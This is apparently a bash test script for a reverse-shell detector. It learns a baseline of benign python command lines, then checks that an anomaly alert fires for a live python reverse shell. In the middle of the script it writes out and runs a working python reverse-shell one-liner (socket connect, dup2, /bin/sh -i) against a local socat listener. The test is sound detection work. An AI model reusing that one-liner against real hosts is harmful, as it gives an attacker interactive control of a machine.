#!/usr/bin/env bash
# live.sh: the host baseline on this machine: `baseline learn --live` learns the python lines of a
# benign workload run by the test (and whatever else the host runs meanwhile), stops on SIGINT or
# when its time is up, and writes the file; `run --baseline` then raises the anomaly signal for a
# real python reverse shell on 127.0.0.1 (python_dup2 of tests/shells/techniques.sh, started
# straight from this script) and not for the workload's lines. --hold 0 prints the python
# process's low alert at once, before the shell's high alert could absorb it.
. "$(dirname "$0")/../lib.sh"
require_live "shellwatch baseline learn --live"
SW_PY=/usr/bin/python3
[ -x "$SW_PY" ] || SW_PY=$(command -v python3)

# alerts FILE NEEDLE: "severity signals" of each alert whose command line has NEEDLE in it, or
# whose remote port is NEEDLE (passed in the environment: this python's own exec is judged too,
# and its command line must not match).
alerts() {
	NEEDLE=$2 "$SW_PY" - "$1" <<'PY'
import json, os, sys
needle = os.environ["NEEDLE"]
def get(d, key):   # flat ECS keys or nested objects
    if key in d:
        return d[key]
    for part in key.split("."):
        d = d.get(part, {}) if isinstance(d, dict) else {}
    return d
for line in open(sys.argv[1]):
    a = json.loads(line)
    if needle in str(get(a, "process.command_line")) or needle == str(get(a, "destination.port")):
        print(get(a, "shellwatch.severity"), ",".join(get(a, "shellwatch.signals") or []))
PY
}

# workload N: a host's python lines, N rounds (the numbers are class tokens: 10..99 are <NUM>).
workload() {
	local i
	for i in $(seq "$1"); do
		"$SW_PY" -c 'import sys; print(sys.argv[1])' $((10 + i % 90))
		"$SW_PY" -c 'import json,sys; print(json.dumps({"n": len(sys.argv)}))'
		"$SW_PY" -c 'import os; print(os.getpid())'
		"$SW_PY" -m json.tool <<<'{"a": 1}'
	done >/dev/null 2>&1
}

base=$SW_TMP/host.swb
# Other processes of the host are learnt too: this machine may be running other tests, whose python
# lines (temporary paths, ports) are each rarer than a reverse shell; up to 20% of the lines learnt
# may score above the threshold (docs/baseline.md: a group whose lines are all different).
"$SW_BIN" baseline learn --live 300s --contamination 0.2 -o "$base" 2>"$SW_TMP/learn.err" &
learn=$!
if ! wait_until 20 grep -q 'learn: ready' "$SW_TMP/learn.err"; then
	tap_fail "baseline learn --live attaches" "$(cat "$SW_TMP/learn.err")"
	exit 0
fi
tap_ok "baseline learn --live attaches and says ready"
workload 60
kill -INT "$learn"
wait "$learn"; rc=$?
check "SIGINT ends the learning early, exit 0" test "$rc" -eq 0
check "the baseline is written" test "$(head -n 1 "$base" 2>/dev/null)" = "shellwatch-baseline 1"
n=$(sed -n 's/.*learn: python: \([0-9]*\) lines.*/\1/p' "$SW_TMP/learn.err")
check "the workload's python execs are in the python group (${n:-0} lines)" test "${n:-0}" -ge 240
check "the python group is learnt" grep -q 'learn: python: .*threshold' "$SW_TMP/learn.err"

t0=$SECONDS
"$SW_BIN" baseline learn --live 2s -o "$SW_TMP/short.swb" 2>"$SW_TMP/short.err"; rc=$?
check "--live 2s ends by itself ($((SECONDS - t0)) s), exit 0, file written" \
	test "$rc" -eq 0 -a "$((SECONDS - t0))" -le 15 -a -s "$SW_TMP/short.swb"

out=$SW_TMP/alerts.json
"$SW_BIN" run --json -o "$out" --min-severity low --hold 0 --baseline "$base" \
	>"$SW_TMP/run.out" 2>"$SW_TMP/run.err" &
run=$!
if ! wait_until 20 grep -q '^shellwatch run: ready' "$SW_TMP/run.err"; then
	tap_fail "run --baseline attaches" "$(cat "$SW_TMP/run.err")"
	exit 0
fi
tap_ok "run --baseline attaches"
workload 3
port=$(free_port)
printf 'echo sw-remote-$((6*7)); exit\n' | socat -t 5 TCP-LISTEN:"$port",bind=127.0.0.1,reuseaddr \
	STDIO >"$SW_TMP/listener.out" 2>&1 &
wait_until 10 listening "$port"
"$SW_PY" -c 'import socket,subprocess,os
s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("127.0.0.1",'"$port"'))
os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2)
subprocess.call(["/bin/sh","-i"])' </dev/null >/dev/null 2>&1 &
check "the python reverse shell ran the listener's command" wait_until 10 grep -q sw-remote-42 "$SW_TMP/listener.out"
needle="s.connect((\"127.0.0.1\",$port))"
has_anomaly() { alerts "$out" "$needle" | grep -q anomaly; }
if wait_until 5 has_anomaly; then
	tap_ok "an alert with the anomaly signal for the python process"
else
	tap_fail "an alert with the anomaly signal for the python process" \
		"learnt: $(grep 'learn: python' "$SW_TMP/learn.err")" \
		"alerts for the python process: $(alerts "$out" "$needle" | tr '\n' ';')"
	grep -A3 '^group python' "$base" | sed 's/^/#   /'
fi
a=$(alerts "$out" "$needle" | grep anomaly | head -n 1)
check "... low, listing anomaly ($a)" bash -c "[[ '$a' == 'low '* && ',${a#* },' == *,anomaly,* ]]"
high() { alerts "$out" "$port" | grep -q '^high '; }
check "the shell itself is still a high alert" wait_until 5 high
benign_anomaly() { alerts "$out" 'print(os.getpid())' | grep -q anomaly; }
if benign_anomaly; then tap_fail "no anomaly for the workload's lines"; else
	tap_ok "no anomaly for the workload's lines"; fi
kill -TERM "$run"
wait "$run"
check "run exits 0" test $? -eq 0
